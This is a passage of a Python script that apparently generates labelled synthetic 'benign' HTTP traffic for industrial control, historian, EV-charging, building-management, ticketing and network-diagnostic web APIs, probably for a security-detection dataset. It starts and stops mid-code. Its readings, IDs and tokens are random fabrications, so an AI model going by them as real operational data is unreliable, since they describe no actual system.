    "Shelved for 2h: calibration of FT-301 by instrumentation (J. Smith)",
    "Checked on site: door contact DC-3 faulty, replaced. Work order WO-2025-1187",
    "HH level on \"LT-204\" - drained sump manually, level now 35%",
    "Setpoint changed from 21.5 to 20.0 per facilities request (email 12/03)",
    "Breaker Q1 open, feeder 3 de-energised for maintenance; see permit PTW-0893",
    "Niveau bas réservoir T2, pompe doseuse arrêtée",
    "Vibration 7.1 mm/s on M-204 bearing DE; scheduled for replacement",
    "Comms alarm cleared after switch SW-FLOOR2 port Gi1/0/12 reset",
    "ok",
    "Known issue, see shift log. Level will drop once P-3 & P-4 are both in auto.",
    "Acknowledged by night shift; will call on-call electrician (ext. 4417) if it repeats",
    "DP across filter F-2 = 1.8 bar (limit 1.5) -> backwash started",
    "Low flow <50 l/min at dosing skid, air in line, bled & restored",
]
NOTES = [
    "Replaced 24V PSU in cabinet +CP2; checked I/O card #3 - all channels OK. Firmware left at v2.4.1.",
    "Found loose terminal X4:12 (AI 4-20mA from PT-205). Re-terminated, signal stable at 12.3 mA.",
    "Bearing temp on M-204 trending up (68 -> 74 °C over 2 weeks). Greased, will re-check next PM.",
    "Cleaned condenser coils on Chiller_2. Approach temp improved from 4.1 K to 2.6 K.",
    "Inverter 03 shows 'Grid overvoltage' events at ~13:00 on sunny days; utility notified, Vmax set 253 V per grid code.",
    "Charger CP-00412 connector 2: latch mechanism broken, cable replaced (part no. 1093-22-A). Tested 11 kW OK.",
    "Calibrated FT-301 against reference meter: error was +2.3 %, adjusted K-factor 1.0000 -> 0.9775.",
    "Door contact DC-3 replaced; BACnet BI:17 now reports CLOSED correctly.",
    "Updated RTU-17 config: polling interval 5s -> 2s for feeder 3 currents; backup saved as RTU17_2025-12-04.cfg",
    "UPS battery test failed (runtime 4 min < 10 min spec). Ordered 4x 12V 9Ah, ETA Friday.",
    "VFD on P-101 fault F0004 (overvoltage DC bus) during decel; ramp-down time increased 5 s -> 12 s.",
    "Hinweis: Sensor TT-12 zeigt sporadisch -50 °C (Drahtbruch?). Kabel bis Klemmkasten geprüft, i.O.",
]


def pick(r, xs, n=None):
    if n is None:
        return r.choice(xs)
    return r.sample(xs, n)


def ts(r, day=None):
    return "2025-%02d-%02dT%02d:%02d:%02dZ" % (r.randint(9, 12), day or r.randint(1, 28), r.randint(0, 23), r.randint(0, 59), r.randint(0, 59))


def trange(r):
    """(start, end) ISO timestamps with end after start."""
    start = datetime.datetime(2025, r.randint(9, 12), r.randint(1, 28), r.randint(0, 23), r.choice([0, 15, 30, 45]))
    end = start + datetime.timedelta(hours=r.choice([1, 8, 12, 24, 72, 168]))
    f = "%Y-%m-%dT%H:%M:%SZ"
    return start.strftime(f), end.strftime(f)


def val(r, unit=None):
    u = unit or r.choice(UNITS)
    v = {"%": r.uniform(0, 100), "bar": r.uniform(0, 16), "degC": r.uniform(-10, 120), "kW": r.uniform(0, 500),
         "kWh": r.uniform(1000, 999999), "A": r.uniform(0, 400), "V": r.uniform(220, 240), "Hz": r.uniform(49.8, 50.2),
         "rpm": r.uniform(0, 3000)}.get(u, r.uniform(0, 200))
    return round(v, r.choice([1, 2, 3])), u


def gen_hmi(c):
    r = c.rng
    for i in range(24):
        host = pick(r, HMI_HOSTS)
        k = i % 6
        if k == 0:
            c.add("hmi-tag-read", "benign", "GET", "/api/tags?" + qs([("name", pick(r, TAGS))]), c.browser(host, referer="/hmi/overview"))
        elif k == 1:
            c.add("hmi-tag-read", "benign", "GET", "/api/tags/read?" + qs([("tags", ",".join(pick(r, TAGS, r.randint(2, 6)))), ("quality", "true")]),
                  c.browser(host, referer="/hmi/screens/line3"))
        elif k == 2:
            v, u = val(r)
            c.add("hmi-tag-write-query", "benign", "GET", "/api/tags?" + qs([("name", pick(r, TAGS)), ("value", str(v))]), c.browser(host, referer="/hmi/faceplate"))
        elif k == 3:
            v, u = val(r)
            c.add("hmi-tag-write", "benign", "POST", "/api/tags/write", c.browser(host, ctype="application/json;charset=UTF-8", referer="/hmi/faceplate"),
                  jdump({"writes": [{"name": pick(r, TAGS), "value": v}], "reason": "setpoint adjust", "user": pick(r, OPERATORS)}))
        elif k == 4:
            tag = pick(r, TAGS)
            v, u = val(r)
            c.add("hmi-tag-meta", "benign", "PUT", "/api/tags/" + pq(tag, safe=""), c.browser(host, ctype="application/json"),
                  jdump({"name": tag, "description": r.choice(["Level of tank T-101 (0-12.5 m)", "Discharge pressure, pump P-101 (4-20 mA)",
                                                               "Zone 2 temperature PV [°C]", "Motor run feedback (1 = running)",
                                                               "Flow to clarifier #2, m³/h", "Feeder 3 phase A current"]),
                         "unit": u, "engLow": 0, "engHigh": r.choice([10, 16, 100, 150, 400]), "deadband": 0.5, "historize": True}))
        else:
            c.add("hmi-screen", "benign", "GET", "/api/screens/%s/values?%s" % (pq(r.choice(["Line3_Overview", "Boiler House", "AHU-1", "Substation-A"])), qs([("ts", str(1733500000000 + r.randint(0, 10**8)))])),
                  c.browser(host))
    for i in range(6):
        host = pick(r, HMI_HOSTS)
        c.add("hmi-trend", "benign", "GET", "/api/trends/data?" + qs([("tags", ";".join(pick(r, TAGS, 3))), ("start", ts(r)), ("duration", r.choice(["1h", "8h", "24h", "7d"])), ("points", "600")]),
              c.browser(host, referer="/hmi/trends"))
    # alarms
    for i in range(16):
        host = pick(r, HMI_HOSTS)
        k = i % 4
        if k == 0:
            c.add("hmi-alarm-list", "benign", "GET", "/api/alarms?" + qs([("area", r.choice(["Area1", "Line3", "Boiler House", "Substation/Feeder3", "Area1/Tanks"])),
                                                                         ("state", r.choice(["active", "unacked", "all"])), ("priority", r.choice(["1-2", "high", "500..1000"])), ("limit", "100")]),
                  c.browser(host, referer="/alarms"))
        elif k == 1 or k == 2:
            c.add("hmi-alarm-ack", "benign", "POST", "/api/alarms/%d/ack" % r.randint(1000, 99999), c.browser(host, ctype="application/json"),
                  jdump({"comment": pick(r, COMMENTS), "operator": pick(r, OPERATORS)}))
        else:
            c.add("hmi-alarm-ack-form", "benign", "POST", "/alarms/ack", c.browser(host, accept=ACCEPT_HTML, ctype="application/x-www-form-urlencoded", xhr=False, referer="/alarms"),
                  form([("ids", ",".join(str(r.randint(1000, 99999)) for _ in range(r.randint(1, 4)))), ("comment", pick(r, COMMENTS)), ("_csrf", b64tok(r, 36))]))
    for i in range(4):
        c.add("hmi-alarm-shelve", "benign", "POST", "/api/alarms/shelve", c.browser(pick(r, HMI_HOSTS), ctype="application/json"),
              jdump({"tag": pick(r, TAGS), "condition": r.choice(["HI", "HIHI", "LO", "ROC", "BAD_QUALITY"]), "durationMin": r.choice([30, 60, 120, 480]),
                     "reason": pick(r, COMMENTS)}))
    for i in range(3):
        tr = trange(r)
        c.add("hmi-alarm-history", "benign", "GET", "/api/alarms/history?" + qs([("from", tr[0]), ("to", tr[1]), ("sort", r.choice(["time", "-time", "priority,-time"])), ("q", r.choice(["P-101", "Feeder 3", "LT-*", "comms"]))]),
              c.browser(pick(r, HMI_HOSTS)))


def gen_historian(c):
    r = c.rng
    for i in range(24):
        host = pick(r, HIST_HOSTS)
        tr = trange(r)
        k = i % 6
        if k == 0:
            c.add("hist-values", "benign", "GET", "/historian/api/v1/values?" + qs([("tag", r.choice(["Area1.*.Temp", "Line3.Filler.*", "Boiler_01/*", "FIC10?.PV", "Substation/Feeder*/I?"])),
                                                                                  ("start", tr[0]), ("end", tr[1]), ("aggregate", r.choice(["avg", "min", "max", "count", "timeweightedavg"])),
                                                                                  ("interval", r.choice(["1m", "5m", "15m", "1h"]))]), c.api(host))
        elif k == 1:
            c.add("hist-query", "benign", "POST", "/historian/api/v1/query", c.api(host, ctype="application/json"),
                  jdump({"tags": pick(r, TAGS, 3), "start": tr[0], "end": tr[1], "mode": r.choice(["interpolated", "raw", "cyclic"]), "resolutionMs": r.choice([1000, 60000, 300000]),
                         "filters": [{"field": "quality", "op": "eq", "value": "Good"}]}))
        elif k == 2:
            c.add("hist-export", "benign", "GET", "/historian/export.csv?" + form([("tags", ",".join(pick(r, TAGS, 2))), ("from", "2025-12-0%d 00:00" % r.randint(1, 6)), ("to", "2025-12-0%d 23:59" % r.randint(6, 9)), ("tz", "Europe/Berlin")]),
                  c.browser(host, accept="text/csv,*/*", xhr=False))
        elif k == 3:
            c.add("hist-search", "benign", "GET", "/piwebapi/search/query?" + qs([("q", r.choice(["name:Area1*Temp*", "name:*Feeder3* AND description:current", "afcategory:Pumps"])), ("count", "50")]),
                  c.api(host))
        elif k == 4:
            c.add("hist-summary", "benign", "GET", "/piwebapi/streams/%s/summary?%s" % ("F1DP" + b64tok(r, 22).replace("-", "A").replace("_", "B"),
                  qs([("startTime", "*-24h"), ("endTime", "*"), ("summaryType", "Average"), ("summaryDuration", "1h")])), c.api(host))
        else:
            c.add("hist-calc", "benign", "POST", "/historian/api/v1/calculated", c.api(host, ctype="application/json"),
                  jdump({"name": "Boiler_01.Efficiency", "expression": "('Boiler_01/Steam_Flow' * 2.676) / ('Boiler_01/Gas_Flow' * 10.55) * 100", "unit": "%", "period": "5m"}))
    # telemetry ingestion from edge collectors (lots of numbers)
    for i in range(8):
        pts = []
        for _ in range(r.randint(3, 8)):
            v, u = val(r)
            pts.append({"tag": pick(r, TAGS), "t": ts(r, day=7), "v": v, "u": u, "q": r.choice([192, 192, 192, 0, 68])})
        c.add("hist-ingest", "benign", "POST", "/historian/api/v1/ingest", c.api(pick(r, HIST_HOSTS), ctype="application/json", ua="Telegraf/1.29.4 Go/1.21.6"),
              jdump({"source": "edge-%02d" % r.randint(1, 30), "points": pts}))
    for i in range(3):
        lines = "\n".join("%s,site=plant1,line=L%d value=%s %d" % (r.choice(["boiler_temp", "flow_m3h", "kw_total", "vib_rms"]), r.randint(1, 4), val(r)[0], 1733560000000000000 + r.randint(0, 10**12)) for _ in range(r.randint(3, 7)))
        c.add("hist-line-protocol", "benign", "POST", "/api/v2/write?org=plant&bucket=telemetry&precision=ns", c.api(pick(r, HIST_HOSTS), ctype="text/plain; charset=utf-8", ua="Telegraf/1.29.4 Go/1.21.6"), lines)


def gen_ocpp(c):
    r = c.rng
    vendors = [("ABB", "Terra AC W22-T-RD-M-0"), ("Alfen", "NG920-61024"), ("Wallbox", "Commander 2"), ("Zaptec", "Pro"), ("Kempower", "S-Series"), ("Ekoenergetyka", "Axon Side 360")]
    for i in range(36):
        cp = "CP-%05d" % r.randint(100, 99999)
        host = pick(r, EV_HOSTS)
        mid = hexid(r, 8) if r.random() < 0.5 else str(r.randint(10**7, 10**9))
        k = i % 8
        if k == 0:
            v, m = pick(r, vendors)
            msg = [2, mid, "BootNotification", {"chargePointVendor": v, "chargePointModel": m, "chargePointSerialNumber": "SN%08d" % r.randint(0, 10**8),
                                               "firmwareVersion": "%d.%d.%d" % (r.randint(1, 6), r.randint(0, 20), r.randint(0, 99)), "iccid": "8931%016d" % r.randint(0, 10**15), "meterType": "AC MID"}]
        elif k == 1:
            msg = [2, mid, "Heartbeat", {}]
        elif k == 2:
            msg = [2, mid, "StatusNotification", {"connectorId": r.randint(0, 2), "errorCode": r.choice(["NoError", "NoError", "GroundFailure", "ConnectorLockFailure"]),
                                                 "status": r.choice(["Available", "Preparing", "Charging", "SuspendedEV", "Finishing", "Faulted"]), "timestamp": ts(r)}]
        elif k == 3:
            sv = [{"value": str(round(r.uniform(1000, 90000), 1)), "context": "Sample.Periodic", "measurand": "Energy.Active.Import.Register", "unit": "Wh"},
                  {"value": str(round(r.uniform(0, 22000), 1)), "measurand": "Power.Active.Import", "unit": "W"},
                  {"value": str(round(r.uniform(0, 32), 2)), "measurand": "Current.Import", "phase": "L1", "unit": "A"},
                  {"value": str(round(r.uniform(225, 238), 1)), "measurand": "Voltage", "phase": "L1-N", "unit": "V"},
                  {"value": str(r.randint(10, 95)), "measurand": "SoC", "location": "EV", "unit": "Percent"}]
            msg = [2, mid, "MeterValues", {"connectorId": 1, "transactionId": r.randint(1, 10**6), "meterValue": [{"timestamp": ts(r), "sampledValue": sv}]}]
        elif k == 4:
            msg = [2, mid, "StartTransaction", {"connectorId": r.randint(1, 2), "idTag": hexid(r, 14).upper(), "meterStart": r.randint(0, 10**6), "timestamp": ts(r)}]
        elif k == 5:
            msg = [2, mid, "StopTransaction", {"transactionId": r.randint(1, 10**6), "idTag": hexid(r, 8).upper(), "meterStop": r.randint(0, 10**6), "timestamp": ts(r),
                                               "reason": r.choice(["Local", "EVDisconnected", "Remote", "PowerLoss"])}]
        elif k == 6:
            msg = [2, mid, "Authorize", {"idTag": r.choice([hexid(r, 8).upper(), hexid(r, 14).upper(), "DE*ABC*C%07d*%d" % (r.randint(0, 10**7), r.randint(0, 9))])}]
        else:
            msg = [3, mid, {"status": r.choice(["Accepted", "Rejected"])}] if r.random() < 0.5 else \
                  [2, mid, "DataTransfer", {"vendorId": "com.example.charger", "messageId": "Diagnostics", "data": jdump({"temp_c": round(r.uniform(20, 60), 1), "rssi": -r.randint(50, 95), "uptime_s": r.randint(0, 10**7)})}]
        c.add("ocpp-message", "benign", "POST", "/ocpp/" + cp, c.api(host, ctype="application/json", ua=pick(r, UA_CHARGERS), auth=False)
              + [("Authorization", "Basic " + base64.b64encode(("%s:%s" % (cp, b64tok(r, 20))).encode()).decode())], jdump(msg))
    for i in range(10):
        host = pick(r, EV_HOSTS)
        k = i % 5
        if k == 0:
            c.add("csms-sessions", "benign", "GET", "/api/chargepoints/CP-%05d/sessions?%s" % (r.randint(100, 99999), qs([("from", "2025-11-01"), ("to", "2025-11-30"), ("status", "completed"), ("page", str(r.randint(1, 5)))])),
                  c.browser(host))
        elif k == 1:
            c.add("csms-rfid", "benign", "POST", "/api/rfid-tokens", c.browser(host, ctype="application/json"),
                  jdump({"uid": hexid(r, 14).upper(), "label": r.choice(["Fleet van WX-1234", "Müller, Anna (Facility)", "Visitor card #12", "O'Neil - site manager"]),
                         "validUntil": "2026-12-31", "group": r.choice(["fleet", "staff", "visitors"])}))
        elif k == 2:
            c.add("csms-remote-start", "benign", "POST", "/api/chargepoints/CP-%05d/remote-start" % r.randint(100, 99999), c.browser(host, ctype="application/json"),
                  jdump({"connectorId": 1, "idTag": hexid(r, 8).upper(), "chargingProfile": {"chargingProfilePurpose": "TxProfile", "chargingProfileKind": "Absolute",
                         "chargingSchedule": {"chargingRateUnit": "A", "chargingSchedulePeriod": [{"startPeriod": 0, "limit": 16.0}, {"startPeriod": 3600, "limit": 10.0}]}}}))
        elif k == 3:
            c.add("csms-tariff", "benign", "PUT", "/api/tariffs/%d" % r.randint(1, 20), c.browser(host, ctype="application/json"),
                  jdump({"currency": "EUR", "elements": [{"price_components": [{"type": "ENERGY", "price": 0.39, "step_size": 1}], "restrictions": {"start_time": "07:00", "end_time": "22:00"}},
                                                           {"price_components": [{"type": "ENERGY", "price": 0.29, "step_size": 1}]}]}))
        else:
            c.add("csms-map", "benign", "GET", "/api/locations?" + qs([("bbox", "13.30,52.45,13.55,52.58"), ("available", "true"), ("connector", "Type2,CCS")]), c.browser(host))


def gen_meter_bms(c):
    r = c.rng
    for i in range(20):
        host = pick(r, METER_HOSTS)
        k = i % 7
        if k == 0:
            c.add("meter-readings", "benign", "GET", "/api/v1/meters/%s/readings?%s" % ("1ESY%010d" % r.randint(0, 10**10), qs([("obis", r.choice(["1.8.0", "2.8.0", "1-0:1.8.0*255", "1-0:16.7.0"])), ("from", ts(r)), ("resolution", "15min")])),
                  c.api(host))
        elif k == 1:
            c.add("inverter-status", "benign", "GET", "/api/v1/inverters/INV%02d/status" % r.randint(1, 12), c.browser(host))
        elif k == 2:
            regs = []
            addr = 40000 + r.randint(0, 100)
            for name, typ, scale, unit in [("AC_Current", "uint16", -2, "A"), ("AC_Voltage_AN", "uint16", -1, "V"), ("AC_Power", "int16", 0, "W"), ("AC_Frequency", "uint16", -2, "Hz"),
                                           ("AC_Energy_WH", "acc32", 0, "Wh"), ("DC_Voltage", "uint16", -1, "V"), ("Cabinet_Temp", "int16", -1, "degC"), ("Operating_State", "enum16", 0, "")]:
                regs.append({"address": addr, "name": name, "type": typ, "words": 2 if typ == "acc32" else 1, "scaleFactor": scale, "unit": unit, "fc": r.choice([3, 4])})
                addr += 2 if typ == "acc32" else 1
            c.add("modbus-register-map", "benign", "PUT", "/api/v1/devices/%s/register-map" % r.choice(["meter-main", "inv-03", "bess-1"]), c.browser(host, ctype="application/json"),
                  jpretty({"unitId": r.randint(1, 247), "byteOrder": "ABCD", "pollMs": r.choice([1000, 5000]), "registers": regs}))
        elif k == 3:
            fw = base64.b64encode(bytes(r.randint(0, 255) for _ in range(r.randint(300, 700)))).decode()
            ct, body = multipart(r, [("device", None, None, "INV%02d" % r.randint(1, 12)), ("version", None, None, "3.%d.%d" % (r.randint(0, 9), r.randint(0, 40))),
                                     ("sha256", None, None, hexid(r, 64)), ("file", "inverter_fw_3_%d.bin.b64" % r.randint(0, 9), "application/octet-stream", fw)])
            c.add("firmware-upload", "benign", "POST", "/api/firmware/upload", c.browser(host, ctype=ct), body)
        elif k == 4:
            c.add("inverter-grid-settings", "benign", "PUT", "/api/v1/inverters/INV%02d/grid" % r.randint(1, 12), c.browser(host, ctype="application/json"),
                  jdump({"gridCode": r.choice(["VDE-AR-N 4105", "EN 50549-1", "G99", "IEEE 1547-2018"]), "vMax": 253.0, "vMin": 184.0, "fMax": 51.5, "fMin": 47.5,
                         "powerFactor": round(r.uniform(0.9, 1.0), 2), "exportLimitW": r.choice([0, 4600, 10000, 30000])}))
        elif k == 5:
            c.add("meter-push", "benign", "POST", "/api/v1/telemetry", c.api(host, ctype="application/json", ua="Go-http-client/1.1"),
                  jdump({"deviceId": "SM-%06d" % r.randint(0, 999999), "ts": 1733560000 + r.randint(0, 10**6), "values": {"P_total_W": r.randint(-5000, 12000), "Q_total_var": r.randint(-800, 800),
                         "U1_V": round(r.uniform(228, 236), 1), "U2_V": round(r.uniform(228, 236), 1), "U3_V": round(r.uniform(228, 236), 1), "I1_A": round(r.uniform(0, 40), 2),
                         "E_import_kWh": round(r.uniform(1000, 90000), 3), "E_export_kWh": round(r.uniform(0, 20000), 3), "thd_U1_pct": round(r.uniform(0.8, 4.5), 2)}}))
        else:
            c.add("firmware-check", "benign", "GET", "/api/firmware/latest?" + qs([("model", r.choice(["SUN2000-10KTL", "SE7K", "Symo 8.2-3-M"])), ("current", "3.%d.%d" % (r.randint(0, 9), r.randint(0, 40))), ("channel", "stable")]),
                  c.api(host))
    objs = ["analog-value:3", "analog-input:12", "binary-output:4", "multi-state-value:2", "schedule:1", "trend-log:7", "device:1001"]
    names = ["AHU-1.SAT", "VAV-3-12:ZN-T", "CHWP-2 Status", "Bldg B / Floor 3 / Room 312 Temp", "FCU_L2_07.OccCmd", "Boiler-1 HWS Setpoint", "Lobby Lights (Zone 1)"]
    for i in range(20):
        host = pick(r, BMS_HOSTS)
        k = i % 6
        dev = r.choice([1001, 1002, 2100, 30012, 409001])
        if k == 0:
            c.add("bacnet-read", "benign", "GET", "/api/bacnet/devices/%d/objects/%s/present-value" % (dev, pq(pick(r, objs), safe=":")), c.browser(host))
        elif k == 1:
            c.add("bacnet-write", "benign", "PUT", "/api/bacnet/devices/%d/objects/analog-value:%d/present-value" % (dev, r.randint(1, 60)), c.browser(host, ctype="application/json"),
                  jdump({"value": round(r.uniform(18, 26) * 2) / 2, "priority": r.choice([8, 10, 16]), "relinquishAfterMin": r.choice([None, 60, 240])}))
        elif k == 2:
            days = {d: [{"time": "06:30", "value": "occupied"}, {"time": "18:00" if d != "friday" else "16:00", "value": "unoccupied"}] for d in ["monday", "tuesday", "wednesday", "thursday", "friday"]}
            days.update({"saturday": [], "sunday": []})
            c.add("bms-schedule", "benign", "PUT", "/bms/api/schedules/%d" % r.randint(1, 40), c.browser(host, ctype="application/json"),
                  jdump({"name": r.choice(["Office Bldg B - HVAC", "Lobby lighting", "Lab 3 exhaust (24/7 except Sun)"]), "weekly": days,
                         "exceptions": [{"date": "2025-12-25", "value": "unoccupied", "note": "Christmas"}, {"date": "2025-12-26", "value": "unoccupied"}]}))
        elif k == 3:
            c.add("bms-setpoint-form", "benign", "POST", "/bms/setpoints", c.browser(host, accept=ACCEPT_HTML, ctype="application/x-www-form-urlencoded", xhr=False, referer="/bms/zones"),
                  form([("zone", pick(r, names)), ("occ_heat", "21.0"), ("occ_cool", "24.0"), ("unocc_heat", "16.5"), ("unocc_cool", "28.0"), ("deadband", "1.5")]))
        elif k == 4:
            c.add("bacnet-objects", "benign", "GET", "/api/bacnet/devices/%d/objects?%s" % (dev, qs([("type", r.choice(["analog-input", "binary-value", "*"])), ("name", r.choice(["AHU-1.*", "*Temp*", "VAV-3-*"]))])),
                  c.browser(host))
        else:
            c.add("bms-trend", "benign", "GET", "/bms/api/trends?" + qs([("points", ",".join(pick(r, names, 2))), ("range", "last7days"), ("rollup", "1h")]), c.browser(host))


def gen_plc_tickets(c):
    r = c.rng
    for i in range(4):
        c.add("plc-project-download", "benign", "GET", "/api/projects/%s/download?%s" % (pq(r.choice(["Line3", "Boiler House", "WWTP_Aeration", "PackLine-2"])), qs([("format", r.choice(["zip", "plcopen-xml", "csv"])), ("rev", str(r.randint(10, 300)))])),
              c.browser(pick(r, HMI_HOSTS), accept="application/octet-stream,*/*"))
    for i in range(5):
        rows = ["Name,Address,DataType,Description,Unit,ScanRate"]
        for _ in range(r.randint(5, 10)):
            n = pick(r, TAGS).split(".")[-1].replace("[", "_").replace("]", "")
            rows.append('%s_%d,%s,%s,"%s",%s,%d' % (n, r.randint(1, 99), r.choice(["%MW100", "%MX10.0", "DB10.DBD4", "40001", "N7:0", "HR:40012", "%IW64"]),
                                                     r.choice(["REAL", "BOOL", "INT", "DINT", "WORD"]), r.choice(["Tank 1 level, m", "Pump run fb", "Zone 2 temp (°C)", "Flow FT-301", "Spare"]),
                                                     r.choice(UNITS), r.choice([100, 500, 1000])))
        ct, body = multipart(r, [("overwrite", None, None, r.choice(["true", "false"])), ("file", "tags_%s.csv" % r.choice(["line3", "boiler", "pv_site"]), "text/csv", "\n".join(rows) + "\n")])
        c.add("tag-csv-import", "benign", "POST", "/api/tags/import", c.browser(pick(r, HMI_HOSTS), ctype=ct), body)
    for i in range(3):
        c.add("plc-device-config", "benign", "GET", "/api/plc/PLC%d/config" % r.randint(1, 9), c.api(pick(r, GW_HOSTS)))
    statuses = ["open", "in_progress", "waiting_parts", "closed"]
    for i in range(22):
        host = pick(r, TICKET_HOSTS)
        k = i % 6
        if k in (0, 1):
            c.add("ticket-create", "benign", "POST", "/api/tickets", c.browser(host, ctype="application/json"),
                  jdump({"asset": r.choice(["P-101", "M-204", "Chiller_2", "INV03", "CP-00412", "RTU-17", "AHU-1"]), "priority": r.choice(["P1", "P2", "P3"]),
                         "title": r.choice(["Pump tripping on overload", "Bearing temperature high", "Inverter grid overvoltage events", "Charger connector latch broken", "BACnet comms loss"]),
                         "description": pick(r, NOTES), "site": r.choice(["Plant 2", "Hamburg DC", "Solar Park Nord", "HQ Building B"])}))
        elif k == 2:
            c.add("ticket-note", "benign", "POST", "/tickets/%d/notes" % r.randint(100, 9999), c.browser(host, accept=ACCEPT_HTML, ctype="application/x-www-form-urlencoded", xhr=False),
                  form([("note", pick(r, NOTES)), ("hours", str(r.choice([0.5, 1, 1.5, 2, 4]))), ("visibility", "team"), ("csrfmiddlewaretoken", b64tok(r, 64))]))
        elif k == 3:
            c.add("ticket-search", "benign", "GET", "/tickets?" + form([("q", r.choice(["P-101 overload", "inverter 03", "\"door contact\"", "chiller & condenser", "WO-2025-1187"])), ("status", pick(r, statuses)), ("page", "1")]),
                  c.browser(host, accept=ACCEPT_HTML, xhr=False))
        elif k == 4:
            img = base64.b64encode(bytes(r.randint(0, 255) for _ in range(200))).decode()
            ct, body = multipart(r, [("caption", None, None, r.choice(["Terminal X4 before re-termination", "Nameplate M-204", "Burnt contactor K3"])), ("file", "IMG_%04d.jpg" % r.randint(0, 9999), "image/jpeg", img)])
            c.add("ticket-attachment", "benign", "POST", "/api/tickets/%d/attachments" % r.randint(100, 9999), c.browser(host, ctype=ct), body)
        else:
            c.add("ticket-update", "benign", "PATCH", "/api/tickets/%d" % r.randint(100, 9999), c.browser(host, ctype="application/json"),
                  jdump({"status": pick(r, statuses), "assignee": pick(r, OPERATORS), "parts": [{"sku": "1093-22-A", "qty": 1}, {"sku": "PSU-24V-10A", "qty": r.randint(1, 2)}]}))


def gen_gateway_mqtt_opc(c):
    r = c.rng
    for i in range(16):
        host = pick(r, GW_HOSTS)
        k = i % 4
        if k == 0:
            c.add("gw-devices", "benign", "GET", "/api/gateway/devices?" + qs([("site", r.choice(["Plant 2", "Solar Park Nord", "WWTP-East"])), ("online", "true")]), c.browser(host))
        elif k == 1:
            c.add("gw-session", "benign", "POST", "/api/gateway/sessions", c.browser(host, ctype="application/json"),
                  jdump({"deviceId": "GW-%02d" % r.randint(1, 40), "service": r.choice(["https:443", "vnc:5900", "s7:102", "modbus:502", "ssh:22"]), "reason": r.choice(["Remote support for ticket #%d" % r.randint(100, 9999), "PLC download after recipe change", "Vendor firmware check"]),
                         "durationMin": r.choice([30, 60, 120])}))
        elif k == 2:
            c.add("gw-audit", "benign", "GET", "/api/gateway/audit?" + qs([("from", ts(r)), ("user", pick(r, OPERATORS)), ("action", "session.start")]), c.browser(host))
        else:
            c.add("gw-network", "benign", "POST", "/api/gateway/devices/GW-%02d/network" % r.randint(1, 40), c.api(host, ctype="application/json"),
                  jdump({"dhcp": False, "ip": "10.20.%d.5" % r.randint(0, 254), "mask": "255.255.255.0", "gateway": "10.20.0.1", "dns": ["10.20.0.2", "10.20.0.3"]}))
    topics = ["site1/line2/plc1/temperature", "plant/boiler01/drum_pressure", "spBv1.0/Plant2/DDATA/EdgeNode7/PLC1", "bms/bldgB/floor3/vav-3-12/zn-t", "ev/cp-00412/status", "solar/inv03/ac_power"]
    for i in range(12):
        host = pick(r, NR_HOSTS)
        k = i % 3
        if k == 0:
            v, u = val(r)
            c.add("mqtt-publish", "benign", "POST", "/api/mqtt/publish", c.api(host, ctype="application/json"),
                  jdump({"topic": pick(r, topics), "payload": jdump({"v": v, "u": u, "ts": 1733560000000 + r.randint(0, 10**8), "q": "good"}), "qos": r.choice([0, 1]), "retain": r.random() < 0.3}))
        elif k == 1:
            c.add("mqtt-subscribe", "benign", "GET", "/api/mqtt/messages?" + qs([("topic", r.choice(["site1/+/plc1/#", "plant/#", "bms/bldgB/+/+/zn-t", "spBv1.0/Plant2/+/EdgeNode7/#"])), ("limit", "50")]),
                  c.browser(host))
        else:
            c.add("mqtt-http-bridge", "benign", "POST", "/telemetry/%s" % pq(pick(r, topics), safe="/"), c.api(host, ctype="application/json", ua="python-requests/2.31.0"),
                  jdump({"temperature": round(r.uniform(15, 90), 2), "humidity": round(r.uniform(20, 80), 1), "battery_mV": r.randint(2900, 3600), "rssi": -r.randint(40, 110)}))
    nodes = ["ns=2;s=Channel1.Device1.Tag1", "ns=3;i=1001", "ns=2;s=Line3.Oven.Zone2.Temp", "ns=4;s=|var|PLC1.Application.GVL.rTankLevel", "i=2258", "ns=1;g=5a2b3c4d-0000-4a1b-9c2d-1234567890ab",
             "ns=2;s=[PLC_Line2]Program:MainProgram.Motor_Run"]
    for i in range(16):
        host = pick(r, OPC_HOSTS)
        k = i % 4
        if k == 0:
            c.add("opcua-read", "benign", "GET", "/opcua/api/read?" + qs([("nodeId", pick(r, nodes)), ("attribute", "Value")]), c.api(host))
        elif k == 1:
            v, u = val(r)
            c.add("opcua-write", "benign", "POST", "/opcua/api/write", c.api(host, ctype="application/json"),
                  jdump({"nodeId": pick(r, nodes), "value": {"dataType": r.choice(["Double", "Float", "Int32", "Boolean"]), "value": v}}))
        elif k == 2:
            c.add("opcua-browse", "benign", "GET", "/opcua/api/browse?" + qs([("path", r.choice(["/Objects/Server/ServerStatus", "/Objects/2:DeviceSet/4:PLC1/2:MethodSet", "/Objects/Line3/Oven"])), ("depth", "2")]),
                  c.api(host))
        else:
            c.add("opcua-subscribe", "benign", "POST", "/opcua/api/subscriptions", c.api(host, ctype="application/json"),
                  jdump({"publishingInterval": 500, "items": [{"nodeId": n, "samplingInterval": 250, "deadband": {"type": "Absolute", "value": 0.1}} for n in pick(r, nodes, 3)]}))


def gen_netdev_static(c):
    r = c.rng
    targets = ["192.0.2.1", "10.20.0.1", "198.51.100.20", "www.example.com", "ntp1.example.net", "2001:db8::1", "plc1.plant.example.org", "172.16.4.10"]
    for i in range(34):
        host = pick(r, DEV_HOSTS)
        k = i % 12
        t = pick(r, targets)
        if k == 0:
            c.add("net-ping-get", "benign", "GET", "/cgi-bin/diagnostic.cgi?" + qs([("action", "ping"), ("host", t), ("count", "4")]), c.browser(host, accept=ACCEPT_HTML, referer="/diagnostic.html", xhr=False))
        elif k == 1:
            c.add("net-ping-goform", "benign", "POST", "/goform/formPing", c.browser(host, accept=ACCEPT_HTML, ctype="application/x-www-form-urlencoded", referer="/ping.asp", xhr=False),
                  form([("pingAddr", t), ("pingCount", "4"), ("pingSize", "64"), ("submit-url", "/ping.asp")]))
        elif k == 2:
            c.add("net-traceroute", "benign", "POST", "/api/v1/diagnostics/traceroute", c.browser(host, ctype="application/json"),
                  jdump({"target": t, "maxHops": 30, "protocol": r.choice(["icmp", "udp"])}))
        elif k == 3:
            c.add("net-ntp", "benign", "PUT", "/api/system/time", c.browser(host, ctype="application/json", referer="/#/system/time"),
                  jdump({"mode": "ntp", "ntpServers": ["ntp1.example.net", r.choice(["ntp2.example.net", "192.0.2.123", "time.example.org"])], "timezone": r.choice(["Europe/Berlin", "UTC", "America/Chicago"]), "syncInterval": 3600}))
        elif k == 4:
